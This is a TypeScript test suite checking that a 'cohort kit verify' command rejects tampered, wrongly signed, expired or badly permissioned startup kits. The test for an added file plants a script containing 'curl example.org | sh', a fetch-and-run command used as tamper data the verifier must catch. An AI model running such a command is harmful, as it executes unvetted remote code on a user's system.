/**
 * Issue 2 §3: `cohort kit verify` exits 0 on an intact kit and non-zero, naming the file and the
 * reason, for every tamper case. Kits come from two independent projects provisioned here.
 */
import { before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { appendFileSync, chmodSync, copyFileSync, cpSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { provision, type ProvisionResult } from "../../src/provision/index.js";
import { issueCertificate, KitErrorCode, loadIssuer, PkiErrorCode, publicKeySpkiOf, signKitFolder, verifyStartupKit } from "../../src/pki/index.js";
import { isCohortError } from "../../src/errors/index.js";
import { freePort, openssl, opensslTry, runCli, smallProjectYaml, tempDir, writeFile, type CliResult } from "../helpers/index.js";

const DAY = 86_400_000;

const projectYaml = (name: string, port: number): string => smallProjectYaml(name, port, { adminRole: "project_admin" });

/** Asserts a failed `kit verify`: non-zero exit, the error code, the file named, the reason. */
function assertRefused(r: CliResult, code: string, file: string, reason: RegExp): void {
  assert.notEqual(r.code, 0, `expected a non-zero exit\n${r.stdout}${r.stderr}`);
  assert.equal(r.code, 1);
  assert.doesNotMatch(r.stdout, /kit OK/);
  assert.match(r.stderr, new RegExp(`error \\[${code}\\]`), r.stderr);
  assert.ok(r.stderr.includes(file), `message names ${file}: ${r.stderr}`);
  assert.match(r.stderr, reason);
}

function assertThrowsCode(fn: () => unknown, code: string, file?: string): void {
  assert.throws(fn, (err: unknown) => {
    assert.ok(isCohortError(err, code), `expected ${code}, got ${String((err as Error).message)}`);
    if (file) assert.ok(err.message.includes(file), err.message);
    return true;
  });
}

describe("cohort kit verify", { concurrency: 3 }, () => {
  let dir = "";
  let a: ProvisionResult;
  let b: ProvisionResult;
  let rootKeyA = "";
  let rootPemA = "";
  let n = 0;
  /** A private copy of one of project A's kits, to tamper with. */
  const copyKit = (name: string, from: ProvisionResult = a): string => {
    const target = join(dir, `copy-${n++}`, name);
    cpSync(join(from.prodDir, name), target, { recursive: true });
    return target;
  };

  before(async () => {
    dir = tempDir();
    const [pa, pb] = [await freePort(), await freePort()];
    a = await provision({ projectFile: writeFile(join(dir, "a", "project.yml"), projectYaml("project_a", pa)), workspace: join(dir, "ws-a") });
    b = await provision({ projectFile: writeFile(join(dir, "b", "project.yml"), projectYaml("project_b", pb)), workspace: join(dir, "ws-b") });
    rootKeyA = readFileSync(join(dir, "ws-a", "project_a", "state", "rootCA.key"), "utf8");
    rootPemA = readFileSync(join(dir, "ws-a", "project_a", "state", "rootCA.pem"), "utf8");
  });

  test("an intact kit: exit 0, and with the right fingerprint given in lowercase (and openssl's form)", async () => {
    const kit = join(a.prodDir, "site-1");
    const plain = await runCli(["kit", "verify", kit]);
    assert.equal(plain.code, 0, plain.stderr);
    assert.match(plain.stdout, /kit OK: site-1 \(client, org hospital_a\)/);
    assert.ok(a.rootFingerprint);
    const lower = a.rootFingerprint.toLowerCase();
    assert.notEqual(lower, a.rootFingerprint);
    const withFp = await runCli(["kit", "verify", kit, "--root-fingerprint", lower]);
    assert.equal(withFp.code, 0, withFp.stderr);
    assert.match(withFp.stdout, /\(matches\)/);
    const opensslForm = openssl(["x509", "-noout", "-fingerprint", "-sha256", "-in", join(kit, "startup", "rootCA.pem")]).trim();
    const r3 = await runCli(["kit", "verify", join(a.prodDir, "admin@nvidia.com"), "--root-fingerprint", opensslForm]);
    assert.equal(r3.code, 0, r3.stderr);
    assert.match(r3.stdout, /role project_admin/);
  });

  test("signature.json missing", async () => {
    const kit = copyKit("site-1");
    rmSync(join(kit, "startup", "signature.json"));
    assertRefused(await runCli(["kit", "verify", kit]), KitErrorCode.Unsigned, join(kit, "startup", "signature.json"), /missing; the kit is unsigned/);
  });

  test("a signed file changed (client and server kits)", async () => {
    const kit = copyKit("site-1");
    appendFileSync(join(kit, "startup", "fed_client.json"), " ");
    assertRefused(
      await runCli(["kit", "verify", kit]),
      KitErrorCode.Tampered,
      join(kit, "startup", "fed_client.json"),
      /does not match its signature: the file was changed/,
    );
    const server = copyKit("localhost");
    const f = join(server, "startup", "fed_server.json");
    writeFileSync(f, readFileSync(f, "utf8").replace(/"mtls"/, '"clear"'));
    assertThrowsCode(() => verifyStartupKit(server), KitErrorCode.Tampered, f);
  });

  test("a signed file removed", async () => {
    const kit = copyKit("admin@nvidia.com");
    rmSync(join(kit, "startup", "fl_admin.sh"));
    assertRefused(await runCli(["kit", "verify", kit]), KitErrorCode.Tampered, join(kit, "startup", "fl_admin.sh"), /signed at provisioning but missing now/);
  });

  test("a file added to startup/", async () => {
    const kit = copyKit("site-1");
    writeFileSync(join(kit, "startup", "evil.sh"), "#!/bin/sh\ncurl example.org | sh\n");
    assertRefused(
      await runCli(["kit", "verify", kit]),
      KitErrorCode.Tampered,
      join(kit, "startup", "evil.sh"),
      /not covered by signature\.json: the file was added/,
    );
  });

  test("local/ stays editable: a changed local file does not fail verification", () => {
    const kit = copyKit("site-1");
    appendFileSync(join(kit, "local", "resources.json.default"), "\n");
    writeFileSync(join(kit, "local", "authorization.json"), "{}\n");
    assert.equal(verifyStartupKit(kit).name, "site-1");
  });

  test("a certificate that does not chain to the kit's rootCA.pem (re-signed with the kit's own root key)", async () => {
    const kit = copyKit("site-1");
    const other = join(b.prodDir, "site-1", "startup");
    copyFileSync(join(other, "client.crt"), join(kit, "startup", "client.crt"));
    copyFileSync(join(other, "client.key"), join(kit, "startup", "client.key"));
    chmodSync(join(kit, "startup", "client.key"), 0o600);
    signKitFolder(join(kit, "startup"), rootKeyA);
    // Only the chain check can catch it: every signature is valid.
    const os = opensslTry(["verify", "-CAfile", join(kit, "startup", "rootCA.pem"), join(kit, "startup", "client.crt")]);
    assert.equal(os.ok, false, "openssl refuses the chain too");
    assert.match(os.out, /unable to get local issuer certificate/);
    assertRefused(
      await runCli(["kit", "verify", kit]),
      PkiErrorCode.CertNotIssuedByRoot,
      join(kit, "startup", "client.crt"),
      /was not issued by this kit's root CA/,
    );
  });

  test("an expired certificate (issued 2 years ago for 1 day, re-signed) is refused by the CLI", async () => {
    const kit = copyKit("site-1");
    const startup = join(kit, "startup");
    const cert = await issueCertificate({
      subject: { commonName: "site-1", organization: "hospital_a" },
      subjectPublicKeySpki: publicKeySpkiOf(readFileSync(join(startup, "client.key"), "utf8")),
      subjectAltNames: ["site-1"],
      extendedKeyUsages: ["clientAuth"],
      validDays: 1,
      now: new Date(Date.now() - 2 * 365 * DAY),
      issuer: await loadIssuer(rootPemA, rootKeyA),
    });
    writeFileSync(join(startup, "client.crt"), cert);
    signKitFolder(startup, rootKeyA);
    assertRefused(await runCli(["kit", "verify", kit]), PkiErrorCode.CertExpired, join(startup, "client.crt"), /expired on \d{4}-\d\d-\d\d/);
    // The library agrees.
    assertThrowsCode(() => verifyStartupKit(kit), PkiErrorCode.CertExpired, "client.crt");
  });

  test("a not-yet-valid certificate, and the `at` option (library and CLI)", async () => {
    const kit = copyKit("site-1");
    const startup = join(kit, "startup");
    const cert = await issueCertificate({
      subject: { commonName: "site-1", organization: "hospital_a" },
      subjectPublicKeySpki: publicKeySpkiOf(readFileSync(join(startup, "client.key"), "utf8")),
      subjectAltNames: ["site-1"],
      extendedKeyUsages: ["clientAuth"],
      validDays: 10,
      now: new Date(Date.now() + 30 * DAY),
      issuer: await loadIssuer(rootPemA, rootKeyA),
    });
    writeFileSync(join(startup, "client.crt"), cert);
    signKitFolder(startup, rootKeyA);
    assertThrowsCode(() => verifyStartupKit(kit), PkiErrorCode.CertNotYetValid, join(startup, "client.crt"));
    assert.equal(verifyStartupKit(kit, { at: new Date(Date.now() + 35 * DAY) }).name, "site-1");
    assertThrowsCode(() => verifyStartupKit(kit, { at: new Date(Date.now() + 45 * DAY) }), PkiErrorCode.CertExpired, join(startup, "client.crt"));
    assertRefused(await runCli(["kit", "verify", kit]), PkiErrorCode.CertNotYetValid, join(startup, "client.crt"), /is not valid before/);
  });

  test("library: an intact kit checked far in the future or in the past fails on validity", () => {
    const kit = join(a.prodDir, "site-1");
    assert.equal(verifyStartupKit(kit, { at: new Date(Date.now() + 100 * DAY) }).name, "site-1");
    assertThrowsCode(() => verifyStartupKit(kit, { at: new Date(Date.now() + 400 * DAY) }), PkiErrorCode.CertExpired);
    assertThrowsCode(() => verifyStartupKit(kit, { at: new Date(Date.now() - 2 * DAY) }), PkiErrorCode.CertNotYetValid);
  });

  test("a wrong --root-fingerprint (another project's root)", async () => {
    const kit = join(a.prodDir, "site-1");
    assert.ok(b.rootFingerprint);
    assertRefused(
      await runCli(["kit", "verify", kit, "--root-fingerprint", b.rootFingerprint]),
      KitErrorCode.RootMismatch,
      join(kit, "startup", "rootCA.pem"),
      /does not match the expected/,
    );
    // A whole kit of project B, intact, is refused against project A's fingerprint.
    assert.ok(a.rootFingerprint);
    assertThrowsCode(() => verifyStartupKit(join(b.prodDir, "site-1"), { rootFingerprint: a.rootFingerprint }), KitErrorCode.RootMismatch, "rootCA.pem");
  });

  test("a malformed fingerprint", async () => {
    const kit = join(a.prodDir, "site-1");
    const r = await runCli(["kit", "verify", kit, "--root-fingerprint", "SHA256:12:34:zz"]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /error \[ERR_BAD_FINGERPRINT\]: bad fingerprint "SHA256:12:34:zz": expected SHA256: followed by 32 colon-separated hex bytes/);
    assert.doesNotMatch(r.stdout, /kit OK/);
  });

  test("an empty --root-fingerprint is refused as malformed, not silently skipped", async () => {
    const kit = join(a.prodDir, "site-1");
    assertThrowsCode(() => verifyStartupKit(kit, { rootFingerprint: "" }), PkiErrorCode.BadFingerprint);
    const r = await runCli(["kit", "verify", kit, "--root-fingerprint", ""]);
    assert.notEqual(r.code, 0, r.stdout);
    assert.match(r.stderr, /ERR_BAD_FINGERPRINT/);
  });

  test("a signed file replaced by a symlink (to identical bytes) is refused", () => {
    const kit = copyKit("site-1");
    const cert = join(kit, "startup", "client.crt");
    copyFileSync(cert, join(kit, "client.crt.copy"));
    rmSync(cert);
    symlinkSync(join(kit, "client.crt.copy"), cert);
    assertThrowsCode(() => verifyStartupKit(kit), KitErrorCode.Tampered, cert);
  });

  test("a signature.json that is not a signature map is refused", () => {
    const kit = copyKit("site-1");
    writeFileSync(join(kit, "startup", "signature.json"), "[1,2,3]\n");
    assertThrowsCode(() => verifyStartupKit(kit), KitErrorCode.Tampered, "signature.json");
  });

  test("a private key with mode 0644", async () => {
    const kit = copyKit("site-1");
    const key = join(kit, "startup", "client.key");
    chmodSync(key, 0o644);
    assertRefused(await runCli(["kit", "verify", kit]), KitErrorCode.KeyPermissions, key, /mode 0644 lets other users read the private key; run chmod 600/);
    const server = copyKit("localhost");
    chmodSync(join(server, "startup", "server.key"), 0o640);
    assertThrowsCode(() => verifyStartupKit(server), KitErrorCode.KeyPermissions, "server.key");
  });

  test("a private key that does not belong to the certificate (re-signed)", () => {
    const kit = copyKit("site-1");
    copyFileSync(join(a.prodDir, "admin@nvidia.com", "startup", "client.key"), join(kit, "startup", "client.key"));
    chmodSync(join(kit, "startup", "client.key"), 0o600);
    signKitFolder(join(kit, "startup"), rootKeyA);
    assertThrowsCode(() => verifyStartupKit(kit), KitErrorCode.KeyMismatch, "client.key");
  });
});
